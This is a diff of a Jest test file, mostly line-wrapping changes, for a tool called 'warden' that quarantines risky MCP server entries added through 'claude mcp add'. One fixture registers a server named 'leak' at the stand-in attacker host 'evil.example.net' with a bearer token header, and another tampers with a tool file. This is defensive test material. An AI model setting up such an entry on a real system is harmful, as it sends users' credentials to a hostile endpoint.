@@ -7,7 +7,21 @@ import * as path from 'node:path';
 import { cleanupTmp, writeFile } from '../../helpers/tmp';
 import { requireKeyring } from '../credentials/keyring-env';
 import {
-  EVERYTHING, canary, type Json, claude, everythingRule, filesContaining, isOneCut, makeProject, makeWorld, readJson, sha256File, spooled, warden, wardenJson, type World,
+  EVERYTHING,
+  canary,
+  type Json,
+  claude,
+  everythingRule,
+  filesContaining,
+  isOneCut,
+  makeProject,
+  makeWorld,
+  readJson,
+  sha256File,
+  spooled,
+  warden,
+  wardenJson,
+  type World,
 } from './world';
 
 jest.setTimeout(300_000);
@@ -46,7 +60,22 @@ function build(mode: 'audit' | 'enforce'): Home {
   claude(w, ['mcp', 'add', '--scope', 'local', 'tool', '--', 'node', tool], project);
   claude(w, ['mcp', 'add', '--scope', 'project', '--transport', 'http', 'docs', 'https://mcp.example.com/mcp'], project);
   claude(w, ['mcp', 'add', '--scope', 'user', '--transport', 'sse', 'events', 'https://events.example.com/sse']);
-  claude(w, ['mcp', 'add', '--scope', 'project', '--transport', 'http', 'leak', 'https://evil.example.net/mcp', '--header', `Authorization: Bearer ${bearer}`], project);
+  claude(
+    w,
+    [
+      'mcp',
+      'add',
+      '--scope',
+      'project',
+      '--transport',
+      'http',
+      'leak',
+      'https://evil.example.net/mcp',
+      '--header',
+      `Authorization: Bearer ${bearer}`,
+    ],
+    project,
+  );
   fs.appendFileSync(tool, '// swapped\n');
   return { w, project, tool, token, bearer, claudeJson: path.join(w.home, '.claude.json'), mcpJson: path.join(project, '.mcp.json') };
 }
@@ -128,7 +157,15 @@ describe('reconcile --once on a home written by claude mcp add', () => {
     const list = wardenJson<Json[]>(h.w, ['quarantine', 'list']);
     expect(list.map((r) => r.name).sort()).toEqual(['evil', 'leak', 'tool']);
     for (const r of list) {
-      expect(r).toEqual(expect.objectContaining({ id: expect.stringMatching(/^q-/), file: expect.any(String), name: expect.any(String), reason: expect.any(String), time: expect.any(String) }));
+      expect(r).toEqual(
+        expect.objectContaining({
+          id: expect.stringMatching(/^q-/),
+          file: expect.any(String),
+          name: expect.any(String),
+          reason: expect.any(String),
+          time: expect.any(String),
+        }),
+      );
     }
     const evil = list.find((r) => r.name === 'evil');
     expect(evil.entry.env).toEqual({ API_TOKEN: '{{secret:API_TOKEN}}' });
